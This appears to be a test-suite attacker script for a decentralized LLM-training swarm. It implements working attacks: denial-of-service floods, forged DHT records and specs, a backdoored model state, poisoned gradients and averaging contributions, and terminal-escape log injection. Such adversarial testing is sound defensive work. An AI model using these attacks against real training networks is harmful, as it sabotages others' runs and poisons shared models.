"""A hostile peer: joins the swarm's DHT and speaks the real wire, sending what an honest
client never would. Run as its own process by tests/hostile/test_hostile.py:

    python tests/hostile/attacker.py MODE --initial-peers MADDR --spec SPEC.toml [--target PEER_ID] [--seconds S]

It frames its messages itself (struct + the protobuf classes): nothing it sends goes through
swarmtrain's validating client. It prints JSON lines: ``ready`` (its peer id), ``sent`` (what
it did), ``done``.

Modes
- ``huge-dtype``: forward requests whose tensor declares dtype "(250000000,)f8" in 16 bytes.
- ``burst``: 64 concurrent streams of maximal forward requests, with malformed tensors mixed in.
- ``short-8bit``: BLOCKWISE_8BIT tensors with empty absmax/code tables.
- ``slow-streams``: streams that send one byte and then nothing (idle stream hoarding).
- ``fake-stage-nan`` / ``fake-stage-bad`` / ``fake-stage-huge``: serve the last stage itself,
  announced as online with 1e9 samples/s, answering every forward with a NaN loss, with
  ``bad_request``, or with gradients 64x larger than asked.
- ``huge-epoch``: a stage group progress record claiming epoch 2**40.
- ``error-escape``: a fake last stage whose error strings carry terminal escapes and fake log lines.
- ``fake-online``: an ``online`` record at ``--stage`` claiming 1e9 samples/s with no server
  behind it, from an identity ground so that its peer id sorts after ``--target``'s (the
  balancing policy then names the target, not the fake, to leave the stage).
- ``preclaim``: a fake last stage that learns the trainer's micro-batch ids from the requests it
  gets, then sends ``--target`` (an honest last stage) cheap accumulating requests under the
  trainer's next ids, and some claiming 64 samples.
- ``fake-spec``: a competing spec under the run id, signed by the attacker's own key.
- ``fake-checkpoints``: 20 checkpoint announcements at step 2**30 for ``--stage`` (the
  attacker's and 19 other RSA identities), claiming the spec's trusted signer, with a checkpoint
  server that answers nothing.
- ``fake-state``: an ``online`` record at ``--stage`` claiming epoch 2**30 (``--epoch same``: the
  group's own epoch) and a state server that answers with a backdoored stage state.
- ``outer-fake-state``: the same state server, behind an ``online`` record that copies the
  (round, base digest) ``--stage``'s outer-rounds members announce, from an identity ground so
  that its peer id sorts before ``--target``'s (a joiner asks the holders in peer id order).
- ``bad-backward``: a trainer's backward requests to ``--target`` (a stage-0 server) whose
  ``grad_outputs`` are scaled x1000 (finite), and every third one NaN.
- ``outer-junk``: against ``--stage``'s outer rounds, one lie a round, in turn: a contribution
  record naming ``--target`` as its author (signed by the attacker), one claiming 2 GiB (the most
  the record schema lets through),
  one whose served bytes do not match its signed digest; and every round a burst of malformed
  ``swarmtrain.outer`` requests (another run, an unknown digest, 64 KiB of junk) to ``--target``.
- ``outer-poison``: a member of ``--stage``'s outer rounds (its own RSA identity, claiming 1e9
  samples) whose contribution is poisoned, a different attack each round: an honest member's
  contribution (fetched from it) sign-flipped and scaled x10, random noise at 10x an honest
  scale, NaN scales, a constant direction at 10x. Its contributions are well-formed and signed:
  it publishes and serves them through the round protocol (``peer.averaging.rounds``), as any
  member must for its bytes to be gathered; only what they hold is hostile.
"""

from __future__ import annotations

import argparse
import asyncio
import functools
import json
import struct
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

import torch  # noqa: E402
from hivemind.dht.crypto import RSASignatureValidator  # noqa: E402
from hivemind.dht.schema import SchemaValidator  # noqa: E402
from hivemind.optim.progress_tracker import TrainingProgressSchema  # noqa: E402
from hivemind.p2p import P2P, PeerID  # noqa: E402
from hivemind.proto import runtime_pb2  # noqa: E402
from hivemind.utils import get_dht_time  # noqa: E402
from hivemind.utils.crypto import RSAPrivateKey  # noqa: E402
from hivemind.utils.streaming import split_for_streaming  # noqa: E402

from peer.model.llama import LlamaStage  # noqa: E402
from peer.net.framing import split_message  # noqa: E402
from peer.swarm.dht import publish_spec, start_dht  # noqa: E402
from peer.swarm.identity import load_or_create_identity  # noqa: E402
from protocol import records, signing  # noqa: E402
from protocol.codecs import encode  # noqa: E402
from protocol.messages_pb2 import StageRequest, StageResponse, StateRequest, StateResponse  # noqa: E402
from protocol.spec import load_spec  # noqa: E402

END = struct.pack(">I", 0xFFFFFFFF)
FORWARD, BACKWARD = "swarmtrain.forward", "swarmtrain.backward"
C = runtime_pb2.CompressionType


def emit(event: str, **fields) -> None:
    print(json.dumps({"event": event, "time": time.time(), **fields}), flush=True)


def frame(message) -> bytes:
    payload = message.SerializeToString()
    return struct.pack(">I", len(payload)) + payload


def raw_tensor(shape, *, compression=C.NONE, dtype="float32", buffer=None) -> runtime_pb2.Tensor:
    numel = 1
    for d in shape:
        numel *= d
    if buffer is None:
        buffer = torch.randn(numel).numpy().astype("float32").tobytes() if dtype == "float32" else bytes(8 * numel)
    return runtime_pb2.Tensor(compression=compression, dtype=dtype, size=list(shape), buffer=buffer, chunks=1)


def request(spec, stage: int, mb_id: str, tensors: dict) -> StageRequest:
    header = StageRequest(spec_digest=spec.digest(), stage=stage, microbatch_id=mb_id, timeout=30.0)
    for name, t in tensors.items():
        header.tensor_names.append(name)
        header.tensors.append(t)
    return header


async def send(p2p: P2P, target: str, handler: str, payload: bytes, *, read: bool = True, timeout: float = 30.0):
    """One stream: write ``payload`` raw, then read whatever comes back (bounded)."""
    try:
        _, reader, writer = await p2p.call_binary_stream_handler(PeerID.from_base58(target), handler)
    except Exception as err:
        return f"unreachable: {type(err).__name__}"
    try:
        writer.write(payload)
        await writer.drain()
        if not read:
            return "sent"
        head = await asyncio.wait_for(reader.readexactly(4), timeout)
        (length,) = struct.unpack(">I", head)
        if length == 0xFFFFFFFF or length > 1 << 22:
            return f"length {length}"
        response = StageResponse()
        response.ParseFromString(await asyncio.wait_for(reader.readexactly(length), timeout))
        return response.error_code or "ok"
    except Exception as err:
        return f"{type(err).__name__}"
    finally:
        writer.close()


async def reply_once(writer, message) -> None:
    """One frame and the end marker."""
    data = message.SerializeToString()
    writer.write(struct.pack(">I", len(data)) + data + END)
    await writer.drain()


# --- attacks on a stage server --------------------------------------------------------------


async def repeat(p2p, spec, target, stage, seconds, tag: str, tensors: dict) -> list[str]:
    """The same forward request, again and again, for ``seconds``."""
    results = []
    deadline = time.monotonic() + seconds
    i = 0
    while time.monotonic() < deadline:
        results.append(await send(p2p, target, FORWARD, frame(request(spec, stage, f"{tag}-{i}", tensors)) + END))
        i += 1
    return results


async def huge_dtype(p2p, spec, target, stage, seconds):
    bad = raw_tensor([1, 2, 16], compression=C.FLOAT16, dtype="(250000000,)f8", buffer=bytes(16))
    return await repeat(
        p2p, spec, target, stage, seconds, "evil", {"inputs": bad, "labels": raw_tensor([1, 2], dtype="int64")}
    )


async def short_8bit(p2p, spec, target, stage, seconds):
    numel = 2 * 16 * spec.model.hidden_size
    buffer = (0).to_bytes(8, "little") + (0).to_bytes(8, "little") + bytes(numel)  # no absmax, no code
    bad = raw_tensor([2, 16, spec.model.hidden_size], compression=C.BLOCKWISE_8BIT, buffer=buffer)
    return await repeat(
        p2p, spec, target, stage, seconds, "evil8", {"inputs": bad, "labels": raw_tensor([2, 16], dtype="int64")}
    )


async def burst(p2p, spec, target, stage, seconds):
    """Maximal requests as fast as 64 concurrent streams allow, a malformed one every 8th."""
    mb, seq, hidden = spec.training.micro_batch_size, spec.training.seq_len, spec.model.hidden_size
    ids = raw_tensor([mb, seq], dtype="int64", buffer=bytes(8 * mb * seq))
    big = raw_tensor(
        [64, spec.model.max_position_embeddings],
        dtype="int64",
        buffer=bytes(8 * 64 * spec.model.max_position_embeddings),
    )
    garbage = raw_tensor([mb, seq, hidden], compression=C.UNIFORM_8BIT, buffer=b"\x01" * 11)
    deadline = time.monotonic() + seconds
    results: list[str] = []
    counter = iter(range(10**9))

    async def worker():
        while time.monotonic() < deadline:
            i = next(counter)
            tensor = garbage if i % 8 == 7 else big if i % 8 == 6 else ids
            name = "inputs"
            payload = frame(request(spec, stage, f"burst-{i}", {name: tensor})) + END
            results.append(await send(p2p, target, FORWARD, payload))

    await asyncio.gather(*(worker() for _ in range(64)))
    return results


async def slow_streams(p2p, spec, target, stage, seconds):
    """Streams that send one byte of a length header and then nothing: hoarding slots."""
    deadline = time.monotonic() + seconds
    opened = 0
    writers = []
    while time.monotonic() < deadline:
        for handler in (FORWARD, "swarmtrain.ckpt", "swarmtrain.state"):
            try:
                _, _, writer = await p2p.call_binary_stream_handler(PeerID.from_base58(target), handler)
                writer.write(b"\x00")
                await writer.drain()
                writers.append(writer)
                opened += 1
            except Exception:
                pass
        await asyncio.sleep(0.2)
    for w in writers:
        w.close()
    return [f"opened {opened}"]


# --- a fake stage server ----------------------------------------------------------------------


def fake_stage_handler(spec, mode: str):
    hidden = spec.model.hidden_size

    async def handler(_info, reader: asyncio.StreamReader, writer: asyncio.StreamWriter):
        try:
            frames = []
            while True:
                (length,) = struct.unpack(">I", await reader.readexactly(4))
                if length == 0xFFFFFFFF:
                    break
                msg = StageRequest()
                msg.ParseFromString(await reader.readexactly(length))
                frames.append(msg)
            shape = list(frames[0].tensors[0].size) if frames and frames[0].tensors else [1, 2]
            b, t = (shape + [1, 2])[:2]
            if mode == "bad":
                response = StageResponse(error="bad request (says the liar)", error_code="bad_request")
            elif mode == "escape":
                response = StageResponse(
                    error="\x1b[2J\x1b[31mowned\n2026-01-01 00:00:00 WARNING swarmtrain: forged line",
                    error_code="\x1b[0m",
                )
            elif mode == "nan":
                grad = raw_tensor([b, t, hidden], buffer=torch.zeros(b * t * hidden).numpy().tobytes())
                response = StageResponse(loss=float("nan"), tensor_names=["grad_inputs"], tensors=[grad])
            else:  # huge: 64x the batch it was sent, in 2 MiB parts as split_message sends them
                n = 64 * b * t * hidden
                grad = raw_tensor([64 * b, t, hidden], compression=C.FLOAT16, buffer=bytes(2 * n))
                parts = list(split_for_streaming(grad, 2 * 1024 * 1024))
                response = StageResponse(loss=1.0, tensor_names=["grad_inputs"], tensors=[parts[0]])
                data = response.SerializeToString()
                writer.write(struct.pack(">I", len(data)) + data)
                for part in parts[1:]:
                    more = StageResponse(tensor_names=["grad_inputs"], tensors=[part]).SerializeToString()
                    writer.write(struct.pack(">I", len(more)) + more)
                    await writer.drain()
                writer.write(END)
                await writer.drain()
                return
            await reply_once(writer, response)
        except Exception:
            pass
        finally:
            writer.close()

    return handler


async def fake_stage(p2p, dht, identity_key, spec, mode, seconds):
    await p2p.add_binary_stream_handler(FORWARD, fake_stage_handler(spec, mode))
    owner = RSASignatureValidator(identity_key).local_public_key
    key = records.peers_key(spec.run_id, spec.digest())
    record = records.PeerInfo(
        peer_id="", stage=spec.num_stages - 1, state="online", throughput=1e9, epoch=0, version="0.1.0"
    ).to_record()
    deadline = time.monotonic() + seconds
    stores = 0
    while time.monotonic() < deadline:
        stores += bool(dht.store(key, record, get_dht_time() + 10, subkey=owner))
        await asyncio.sleep(2.0)
    return [f"announced {stores} times"]


# --- a lying progress record ------------------------------------------------------------------


async def huge_epoch(dht, identity_key, peer_id: bytes, spec, stage, seconds):
    prefix = records.averaging_run_id(spec.run_id, spec.digest(), stage)
    owner = RSASignatureValidator(identity_key).local_public_key
    deadline = time.monotonic() + seconds
    stores = 0
    while time.monotonic() < deadline:
        value = dict(
            peer_id=peer_id,
            epoch=2**40,
            samples_accumulated=10**6,
            samples_per_second=1e6,
            time=get_dht_time(),
            client_mode=False,
        )
        stores += bool(dht.store(f"{prefix}_progress", value, get_dht_time() + 30, subkey=owner))
        await asyncio.sleep(2.0)
    return [f"stored {stores} times"]


# --- lying records (8, 10, 11, 12) ------------------------------------------------------------


def ground_identity(after: str = "", before: str = "\uffff"):
    """An identity whose peer id sorts after ``after`` and before ``before``: ids are free, so
    grinding one is cheap."""
    while True:
        identity = load_or_create_identity(None)
        if after < str(identity.peer_id) < before:
            return identity


def store_online(
    dht, identity_key, spec, stage: int, *, epoch: int = 0, throughput: float = 1e9, state_digest: str = ""
) -> bool:
    owner = RSASignatureValidator(identity_key).local_public_key
    record = records.PeerInfo(
        peer_id="",
        stage=stage,
        state="online",
        throughput=throughput,
        epoch=epoch,
        version="0.1.0",
        state_digest=state_digest,
    ).to_record()
    key = records.peers_key(spec.run_id, spec.digest())
    return bool(dht.store(key, record, get_dht_time() + 10, subkey=owner))


async def fake_online(dht, identity_key, spec, stage, seconds):
    deadline = time.monotonic() + seconds
    stores = 0
    while time.monotonic() < deadline:
        stores += store_online(dht, identity_key, spec, stage)
        await asyncio.sleep(2.0)
    return [f"announced {stores} times"]


async def fake_spec(dht, identity, spec, seconds):
    key = signing.generate_private_key()
    fake = spec.model_copy(
        update={
            "training": spec.training.model_copy(update={"lr": spec.training.lr * 100}),
            "trust": spec.trust.model_copy(update={"trusted_keys": (signing.public_key_pem(key),)}),
        }
    )
    deadline = time.monotonic() + seconds
    stores = 0
    while time.monotonic() < deadline:
        stores += publish_spec(dht, identity, fake, ttl=30, signing_key=key)
        if stores == 1:
            emit("attacking", digest=fake.digest())
        await asyncio.sleep(3.0)
    return [f"published {stores} times"]


async def _store_signed_by(_dht, node, key, subkey_prefix: bytes, value, expiration, private_key) -> bool:
    """Runs inside the DHT process: store a record owned by ``private_key`` (another identity)
    by signing it with that key, as a node of its own would."""
    rsa = next(v for v in node.protocol.record_validator._validators if isinstance(v, RSASignatureValidator))
    saved = rsa._private_key, rsa._local_public_key
    rsa._private_key = private_key
    rsa._local_public_key = RSASignatureValidator.PUBLIC_KEY_FORMAT.replace(
        b"_key_", private_key.get_public_key().to_bytes()
    )
    try:
        return await node.store(key, value, expiration, subkey=subkey_prefix + rsa._local_public_key)
    finally:
        rsa._private_key, rsa._local_public_key = saved


async def fake_checkpoints(p2p, dht, identity_key, spec, stage, seconds):
    async def mute(_info, reader, writer):  # reads the request, answers nothing, holds the stream
        try:
            await asyncio.wait_for(reader.read(1 << 16), 60)
            await asyncio.sleep(60)
        except Exception:
            pass
        finally:
            writer.close()

    await p2p.add_binary_stream_handler("swarmtrain.ckpt", mute)
    keys = [identity_key] + [RSAPrivateKey() for _ in range(19)]
    signer = signing.fingerprint(spec.trust.trusted_keys[0])
    key = records.checkpoints_key(spec.run_id, spec.digest())
    deadline = time.monotonic() + seconds
    stores, announced = 0, False
    while time.monotonic() < deadline:
        for i, k in enumerate(keys):
            value = records.CheckpointAnnouncement(
                stage=stage,
                step=2**30 + i,
                manifest_digest=f"{i:064x}",
                signers=(signer,),
                files=2,
                total_bytes=1 << 20,
            ).to_record()
            fn = functools.partial(
                _store_signed_by,
                key=key,
                subkey_prefix=str(stage).encode(),
                value=value,
                expiration=get_dht_time() + 20,
                private_key=k,
            )
            stores += bool(dht.run_coroutine(fn))
        if stores and not announced:
            announced = True
            emit("attacking", stores=stores)
        await asyncio.sleep(5.0)
    return [f"announced {stores} times"]


def group_round_state(dht, spec, stage: int) -> tuple[int, str]:
    """(round, base digest) the online outer-rounds members of ``stage`` announce (the highest)."""
    found = dht.get(records.peers_key(spec.run_id, spec.digest()), latest=True)
    states = [(0, "")]
    for item in (found.value if found is not None and isinstance(found.value, dict) else {}).values():
        value = item.value
        if isinstance(value, dict) and value.get("stage") == stage and value.get("state") == "online":
            states.append((int(value.get("epoch", 0)), str(value.get("state_digest", ""))))
    return max(states)


def group_epoch(dht, spec, stage: int) -> int:
    found = dht.get(records.peers_key(spec.run_id, spec.digest()), latest=True)
    epochs = []
    for item in (found.value if found is not None and isinstance(found.value, dict) else {}).values():
        value = item.value
        if isinstance(value, dict) and value.get("stage") == stage and value.get("state") == "online":
            epochs.append(int(value.get("epoch", 0)))
    return max(epochs, default=0)


async def fake_state(p2p, dht, identity_key, spec, stage, seconds, same_epoch: bool, outer: bool = False):
    module = LlamaStage.from_spec(spec, stage)
    with torch.no_grad():
        for p in module.parameters():
            p.add_(0.02)  # a "backdoor": finite, loss barely moved, not what the group trained
    names = [n for n, _ in module.named_parameters()]
    protos = [encode(p.detach(), "none") for _, p in module.named_parameters()]
    claimed = {"epoch": 2**30}

    async def serve_state(_info, reader, writer):
        try:
            (length,) = struct.unpack(">I", await reader.readexactly(4))
            StateRequest().ParseFromString(await reader.readexactly(length))
            await reader.readexactly(4)  # the end marker
            header = StateResponse(spec_digest=spec.digest(), stage=stage, epoch=claimed["epoch"])
            for message in split_message(header, names, protos):
                data = message.SerializeToString()
                writer.write(struct.pack(">I", len(data)) + data)
                await writer.drain()
            writer.write(END)
            await writer.drain()
        except Exception:
            pass
        finally:
            writer.close()

    await p2p.add_binary_stream_handler("swarmtrain.state", serve_state)
    deadline = time.monotonic() + seconds
    stores = 0
    digest = ""
    while time.monotonic() < deadline:
        if outer:  # the outer group's own (round, base digest), copied into this stranger's record
            claimed["epoch"], digest = group_round_state(dht, spec, stage)
        elif same_epoch:
            claimed["epoch"] = group_epoch(dht, spec, stage)
        if outer and not digest:
            await asyncio.sleep(1.0)
            continue
        stores += store_online(
            dht, identity_key, spec, stage, epoch=claimed["epoch"], throughput=1.0, state_digest=digest
        )
        if stores == 1:
            emit("attacking", epoch=claimed["epoch"], digest=digest)
        await asyncio.sleep(0.5 if outer else 2.0)  # outer: keep up with the group's rounds
    return [f"announced {stores} times, last at epoch {claimed['epoch']}"]


# --- pre-claimed micro-batch ids (9) ------------------------------------------------------------


async def preclaim(p2p, dht, identity_key, spec, target, stage, seconds):
    mb, seq, hidden = spec.training.micro_batch_size, spec.training.seq_len, spec.model.hidden_size
    seen: list[str] = []

    async def learn(_info, reader, writer):
        try:
            (length,) = struct.unpack(">I", await reader.readexactly(4))
            msg = StageRequest()
            msg.ParseFromString(await reader.readexactly(length))
            seen.append(msg.microbatch_id)
            await reply_once(writer, StageResponse(error="no", error_code="internal"))
        except Exception:
            pass
        finally:
            writer.close()

    await p2p.add_binary_stream_handler(FORWARD, learn)
    deadline = time.monotonic() + seconds
    results: list[str] = []
    claimed: set[str] = set()
    while time.monotonic() < deadline:
        if not seen:
            store_online(dht, identity_key, spec, stage)
            await asyncio.sleep(1.0)
            continue
        tag, _, counter = seen[-1].rpartition("-")
        for i in range(int(counter) + 1, int(counter) + 40):
            mb_id = f"{tag}-{i}"
            if mb_id in claimed or time.monotonic() > deadline:
                continue
            claimed.add(mb_id)
            batch = 64 if i % 8 == 0 else mb  # every 8th claims 64 samples
            inputs = raw_tensor([batch, seq, hidden])
            labels = raw_tensor([batch, seq], dtype="int64", buffer=bytes(8 * batch * seq))
            payload = frame(request(spec, stage, mb_id, {"inputs": inputs, "labels": labels})) + END
            results.append(await send(p2p, target, FORWARD, payload))
        await asyncio.sleep(0.5)
    results.append(f"learned {len(seen)} ids, pre-claimed {len(claimed)}")
    return results


# --- backward gradients scaled x1000 or NaN (13) -----------------------------------------------


async def bad_backward(p2p, spec, target, seconds):
    mb, seq, hidden = spec.training.micro_batch_size, spec.training.seq_len, spec.model.hidden_size
    results, deadline, i = [], time.monotonic() + seconds, 0
    while time.monotonic() < deadline:
        nan = i % 3 == 2
        grads = torch.full((mb * seq * hidden,), float("nan")) if nan else torch.randn(mb * seq * hidden) * 1000
        ids = torch.randint(0, spec.model.vocab_size, (mb * seq,))
        tensors = {
            "grad_outputs": raw_tensor([mb, seq, hidden], buffer=grads.numpy().astype("float32").tobytes()),
            "inputs": raw_tensor([mb, seq], dtype="int64", buffer=ids.numpy().astype("int64").tobytes()),
        }
        code = await send(p2p, target, BACKWARD, frame(request(spec, 0, f"bad-{i}", tensors)) + END)
        results.append(f"{'nan' if nan else 'x1000'}: {code}")
        i += 1
        await asyncio.sleep(0.2)
    return results


# --- poisoned outer-round contributions (13) ----------------------------------------------------

OUTER_ATTACKS = ("sign_flip_x10", "noise", "nan", "constant")


def poisoned_update(attack: str, honest, numel: int, config, rng):
    """A well-formed SparseUpdate of ``numel`` elements carrying ``attack``; ``honest``: an honest
    member's update of the round (None when none was visible yet)."""
    import numpy as np

    from peer.averaging.sparse import SparseUpdate

    chunks, k, q = -(-numel // config.chunk), config.k, config.qmax
    scales = (honest.scales if honest is not None else np.full(chunks, 0.01, np.float32)) * np.float32(10)
    last = numel - (chunks - 1) * config.chunk
    if attack == "sign_flip_x10" and honest is not None:
        return SparseUpdate(numel, config, scales, honest.indices, (-honest.values).astype(np.int8))
    if attack == "nan":
        return SparseUpdate(numel, config, np.full(chunks, np.nan, np.float32), *_fixed_positions(chunks, k, last, q))
    if attack == "constant":
        return SparseUpdate(numel, config, scales, *_fixed_positions(chunks, k, last, q))
    indices = np.sort(np.stack([rng.choice(config.chunk, k, replace=False) for _ in range(chunks)]), axis=1)
    values = rng.integers(-q, q + 1, size=(chunks, k)).astype(np.int8)
    values[-1][indices[-1] >= last] = 0  # the last chunk's padding
    return SparseUpdate(numel, config, scales, indices.astype(np.int64), values)


def _fixed_positions(chunks: int, k: int, last: int, qmax: int):
    import numpy as np

    indices = np.tile(np.arange(k, dtype=np.int64), (chunks, 1))
    values = np.full((chunks, k), qmax, np.int8)
    values[-1][indices[-1] >= last] = 0
    return indices, values


def outer_poison(dht, identity, spec, stage: int, seconds: float) -> list[str]:
    import hashlib

    import numpy as np

    from peer.averaging.contribution import NoQuorum
    from peer.averaging.rounds import RoundNet, run_round
    from peer.averaging.sparse import SparseConfig, SparseUpdate
    from peer.base import LoopThread

    o = spec.training.outer
    config = SparseConfig(chunk=o.chunk, k=o.k, bits=o.bits)
    numel = sum(p.numel() for p in LlamaStage.from_spec(spec, stage).parameters() if p.requires_grad)
    loop = LoopThread()
    p2p = loop.run(dht.replicate_p2p(), 30)
    me = p2p.peer_id.to_base58()
    net = RoundNet(
        dht,
        p2p,
        loop.run,
        run_id=spec.run_id,
        spec_digest=spec.digest(),
        stage=stage,
        key=identity.private_key,
        peer_id=me,
    )
    loop.run(net.start(), 30)
    rng = np.random.default_rng(13)
    results, deadline, lag = [], time.monotonic() + seconds, 2.0
    while time.monotonic() < deadline:
        round_ = int(get_dht_time() // o.round_seconds) + 1
        time.sleep(max(0.0, round_ * o.round_seconds - get_dht_time()) + lag)  # honest members publish first
        attack = OUTER_ATTACKS[len(results) % len(OUTER_ATTACKS)]
        honest = None
        for c, nbytes in net.contributions(round_).values():
            blob = net.fetch(c, nbytes, [c.author], 10.0) if c.author != me else None
            if blob is not None:
                honest = SparseUpdate.from_bytes(blob, numel=numel, config=config)
                break
        blob = poisoned_update(attack, honest, numel, config, rng).to_bytes()
        emit(
            "poisoning",
            round=round_,
            attack=attack,
            digest=hashlib.sha256(blob).hexdigest(),
            saw_honest=honest is not None,
        )
        try:
            run_round(
                net,
                round_,
                blob,
                1e9,
                numel=numel,
                config=config,
                max_weight=None,
                gather_s=o.gather_seconds - lag,
                agree_s=o.agree_seconds,
            )
            results.append(f"{attack}: round decided")
        except (NoQuorum, ValueError) as err:
            results.append(f"{attack}: {type(err).__name__}")
    loop.run(net.stop(), 10)
    loop.stop()
    return results


def outer_junk(dht, identity, spec, stage: int, target: str, seconds: float) -> list[str]:
    from hivemind.p2p import PeerID as _PeerID

    from peer.averaging.contribution import Contribution
    from peer.averaging.rounds import RoundNet
    from peer.averaging.sparse import SparseConfig, encoded_size
    from peer.base import LoopThread
    from protocol.messages_pb2 import OuterRequest

    o = spec.training.outer
    numel = sum(p.numel() for p in LlamaStage.from_spec(spec, stage).parameters() if p.requires_grad)
    size = encoded_size(numel, SparseConfig(chunk=o.chunk, k=o.k, bits=o.bits))
    loop = LoopThread()
    p2p = loop.run(dht.replicate_p2p(), 30)
    me = p2p.peer_id.to_base58()
    net = RoundNet(
        dht,
        p2p,
        loop.run,
        run_id=spec.run_id,
        spec_digest=spec.digest(),
        stage=stage,
        key=identity.private_key,
        peer_id=me,
    )
    loop.run(net.start(), 30)
    lies = ("forged-author", "huge-size", "wrong-bytes")
    results, deadline = [], time.monotonic() + seconds

    async def junk_requests() -> list[str]:
        out = []
        bad = [
            OuterRequest(run="another-run", stage=stage, round=1, digest="0" * 64),
            OuterRequest(run=net.run_prefix, stage=stage, round=1, digest="f" * 64),
        ]
        payloads = [frame(m) + END for m in bad] + [struct.pack(">I", 1 << 16) + bytes(1 << 16) + END]
        for payload in payloads * 4:
            try:
                _, reader, writer = await p2p.call_binary_stream_handler(
                    _PeerID.from_base58(target), "swarmtrain.outer"
                )
                writer.write(payload)
                await writer.drain()
                head = await asyncio.wait_for(reader.readexactly(4), 10)
                out.append(f"answered {struct.unpack('>I', head)[0]} bytes")
                writer.close()
            except Exception as err:
                out.append(type(err).__name__)
        return out

    while time.monotonic() < deadline:
        round_ = int(get_dht_time() // o.round_seconds) + 1
        time.sleep(max(0.0, round_ * o.round_seconds - get_dht_time()) + 1.0)
        lie = lies[len([r for r in results if r.startswith("lie")]) % len(lies)]
        blob = bytes(size)
        author = target if lie == "forged-author" else me
        c = Contribution.sign(
            identity.private_key, run=net.run_prefix, stage=stage, round_=round_, author=author, weight=1e9, blob=blob
        )
        net.publish(c, 2**31 if lie == "huge-size" else size, ttl=120)
        if lie == "wrong-bytes":
            net.hold(round_, c.digest, (bytes(range(256)) * (size // 256 + 1))[:size])  # not what was signed
        emit("lying", round=round_, lie=lie, digest=c.digest)
        results.append(f"lie {lie}")
        results += loop.run(junk_requests(), 60)
    loop.run(net.stop(), 10)
    loop.stop()
    return results


def run_mode(args, spec, identity, dht, p2p, loop) -> list:
    """The attack ``args.mode`` names, run to its end; what each of its attempts got."""
    key, target, stage, seconds = identity.private_key, args.target, args.stage, args.seconds
    mode = args.mode
    fake_state_modes = ("fake-state", "fake-state-same", "outer-fake-state")
    attacks = {
        "huge-dtype": lambda: huge_dtype(p2p, spec, target, stage, seconds),
        "short-8bit": lambda: short_8bit(p2p, spec, target, stage, seconds),
        "burst": lambda: burst(p2p, spec, target, stage, seconds),
        "slow-streams": lambda: slow_streams(p2p, spec, target, stage, seconds),
        "huge-epoch": lambda: huge_epoch(dht, key, p2p.peer_id.to_bytes(), spec, stage, seconds),
        "fake-online": lambda: fake_online(dht, key, spec, stage, seconds),
        "preclaim": lambda: preclaim(p2p, dht, key, spec, target, stage, seconds),
        "fake-spec": lambda: fake_spec(dht, identity, spec, seconds),
        "fake-checkpoints": lambda: fake_checkpoints(p2p, dht, key, spec, stage, seconds),
        "bad-backward": lambda: bad_backward(p2p, spec, target, seconds),
    }
    if mode in attacks:
        return loop.run_until_complete(attacks[mode]())
    if mode.startswith("fake-stage-") or mode == "error-escape":
        which = "escape" if mode == "error-escape" else mode.rsplit("-", 1)[1]
        return loop.run_until_complete(fake_stage(p2p, dht, key, spec, which, seconds))
    if mode == "outer-junk":
        return outer_junk(dht, identity, spec, stage, target, seconds)
    if mode == "outer-poison":
        return outer_poison(dht, identity, spec, stage, seconds)
    if mode in fake_state_modes:
        same, outer = mode == "fake-state-same", mode == "outer-fake-state"
        return loop.run_until_complete(fake_state(p2p, dht, key, spec, stage, seconds, same, outer))
    raise SystemExit(f"unknown mode {mode}")


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("mode")
    ap.add_argument("--initial-peers", action="append", required=True)
    ap.add_argument("--spec", required=True)
    ap.add_argument("--target")
    ap.add_argument("--stage", type=int, default=1)
    ap.add_argument("--seconds", type=float, default=10.0)
    args = ap.parse_args()
    spec = load_spec(args.spec)
    # Joining the DHT with an identity of its own (the same RSA key signs its records and names
    # its libp2p peer id, as for any peer); what it then sends is its own.
    if args.mode == "fake-online":
        identity = ground_identity(after=args.target)
    elif args.mode == "outer-fake-state":  # asked first by a joiner, which tries in peer id order
        identity = ground_identity(before=args.target)
    else:
        identity = load_or_create_identity(None)
    run_id = records.averaging_run_id(spec.run_id, spec.digest(), args.stage)
    validators = [
        *records.run_validators(spec.run_id, spec.digest()),
        SchemaValidator(TrainingProgressSchema, prefix=run_id),
    ]
    dht = start_dht(identity, initial_peers=args.initial_peers, validators=validators)
    loop = asyncio.new_event_loop()
    p2p = loop.run_until_complete(dht.replicate_p2p())
    emit("ready", peer_id=p2p.peer_id.to_base58())
    result = run_mode(args, spec, identity, dht, p2p, loop)
    counts: dict[str, int] = {}
    for r in result:
        counts[r] = counts.get(r, 0) + 1
    emit("done", results=counts)
    dht.shutdown()


if __name__ == "__main__":
    main()
